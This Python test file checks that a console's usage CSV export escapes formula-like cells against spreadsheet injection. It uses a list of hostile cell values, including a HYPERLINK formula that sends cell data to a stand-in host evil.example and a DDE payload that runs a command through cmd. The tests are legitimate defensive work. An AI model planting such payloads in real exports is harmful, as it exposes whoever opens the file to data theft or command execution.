"""The usage CSV never hands a spreadsheet a formula: the group keys are the clients' text (a language, a
repository's name), so a key that starts like a formula is neutralised. The pure rule, then the real download from
a signed-in console over a real PostgreSQL."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from aiohttp import ClientSession, CookieJar, web
from sqlalchemy import text

from ctxpress.console.app import make_app
from ctxpress.console.auth import hash_password
from ctxpress.console.page_usage import spreadsheet_text
from ctxpress_core.settings import Settings
from db.console import add_admin
from db.session import engine_for
from tests.team_services import embedded_postgres

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_start_is_neutralised(cell: str) -> None:
    assert spreadsheet_text(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["python", "repo-1", "(unknown)", "a=b", "x-1", "", "'quoted"])
def test_plain_text_is_left_alone(cell: str) -> None:
    assert spreadsheet_text(cell) == cell


@pytest.mark.services
async def test_the_downloaded_csv_has_no_formula(tmp_path: Path) -> None:
    password = "csv test passphrase"
    with embedded_postgres(tmp_path / "pg") as url:
        add_admin(url, "lead", hash_password(password))
        with engine_for(url).begin() as conn:
            conn.execute(text("INSERT INTO completion_events (request_id, repository, path, language, mode, outcome,"
                              " total_ms) VALUES (:r, 'repo', 'a.py', :lang, 'optimized', 'ok', 50)"),
                         [{"r": f"r{i}", "lang": lang} for i, lang in enumerate([*HOSTILE, "python"])])
        settings = Settings(home=tmp_path / "home", team=True, database_url=url, worker_metrics_port=0)
        runner = web.AppRunner(make_app(settings, status_interval_s=30), access_log=None)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        base = f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}"  # type: ignore[union-attr]
        try:
            async with ClientSession(cookie_jar=CookieJar(unsafe=True)) as http:
                async with http.post(f"{base}/login", data={"name": "lead", "password": password},
                                     allow_redirects=False) as signed_in:
                    assert signed_in.status == 303
                async with http.get(f"{base}/usage.csv?period=1h&by=language") as response:
                    assert response.status == 200
                    assert response.content_type == "text/csv"
                    body = await response.text()
        finally:
            await runner.cleanup()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][:2] == ["language", "requests"]
    keys = sorted(row[0] for row in rows[1:])
    assert keys == sorted(["'" + cell for cell in HOSTILE] + ["python"])
